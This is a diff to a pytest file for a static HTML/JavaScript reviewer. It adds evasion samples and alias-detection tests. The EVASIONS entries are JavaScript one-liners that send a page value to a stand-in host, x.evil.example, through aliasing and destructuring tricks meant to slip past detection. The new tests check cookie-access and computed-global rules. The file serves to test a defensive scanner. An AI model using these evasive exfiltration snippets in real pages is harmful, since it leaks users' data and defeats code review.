@@ -235,6 +235,20 @@ EVASIONS = {
     "location alias href": "const {location: L} = window; L.href = 'https://x.evil.example/?' + flowUi.get('order.total');",
     "openUrl bound": "const o = flowUi.openUrl.bind(flowUi); o('https://x.evil.example/?' + flowUi.get('order.total'));",
     "openUrl.call": "flowUi.openUrl.call(flowUi, 'https://x.evil.example/?' + flowUi.get('order.total'));",
+    "window alias then flowUi": "const w = window; w.flowUi.openUrl('https://x.evil.example/?' + w.flowUi.get('order.total'));",
+    "flowUi destructured from window": "const {flowUi: f} = window; f.openUrl('https://x.evil.example/?' + f.get('order.total'));",
+    "flowUi destructured with a default": "const {flowUi = null} = self; new Image().src = 'https://x.evil.example/?'"
+                                          " + flowUi.get('order.total');",
+    "flowUi destructured by a computed key": "const {['flow' + 'Ui']: g} = globalThis;"
+                                             " new Image().src = 'https://x.evil.example/?' + g.get('order.total');",
+    "flowUi through defaultView": "const {document: {defaultView: w}} = window;"
+                                  " new Image().src = 'https://x.evil.example/?' + w.flowUi.get('order.total');",
+    "flowUi through ownerDocument": "const w = document.body.ownerDocument.defaultView;"
+                                    " new Image().src = 'https://x.evil.example/?' + w.flowUi.get('order.total');",
+    "flowUi from a sequence": "const f = (0, window).flowUi; new Image().src = 'https://x.evil.example/?' + f.get('order.total');",
+    "flowUi alias assigned later": "let f; f = window.flowUi; new Image().src = 'https://x.evil.example/?' + f.get('order.total');",
+    "document alias write": "const d = document; d.write('<img src=\"https://x.evil.example/?' + flowUi.get('order.total') + '\">');",
+    "document alias location": "const d = window.document; d.location.href = 'https://x.evil.example/?' + flowUi.get('order.total');",
     # Values through the language: promises, generators, timers' arguments, Reflect.apply, throw, `arguments`.
     "Promise.resolve().then": "Promise.resolve(flowUi.get('order.total')).then((v) => {"
                               " new Image().src = 'https://x.evil.example/?' + v; });",
@@ -247,6 +261,18 @@ EVASIONS = {
     "throw and catch": "try { throw flowUi.get('order.total'); } catch (err) { new Image().src = 'https://x.evil.example/?' + err; }",
     "arguments": "function leak() { new Image().src = 'https://x.evil.example/?' + arguments[0]; } leak(flowUi.get('order.total'));",
 }
+
+
+@pytest.mark.parametrize("source, rule", [
+    ("const d = document; d.cookie;", "blocked.cookie"),
+    ("const w = self; w.document.cookie;", "blocked.cookie"),
+    ("document.body.ownerDocument.cookie;", "blocked.cookie"),
+    ("const d = (0, document); d[k]();", "obfuscation.computed-global"),
+    ("const w = window; w[k]();", "obfuscation.computed-global"),
+    ("const {location: L} = document; L.assign('https://x.evil.example/');", "navigation.self"),
+])
+def test_rules_see_the_document_and_the_window_through_their_aliases(source, rule):
+    assert rule in {f.rule for f in review_static(f"<p></p><script>{source}</script>", file="b.html")}
 
 
 @pytest.mark.parametrize("name", sorted(EVASIONS))
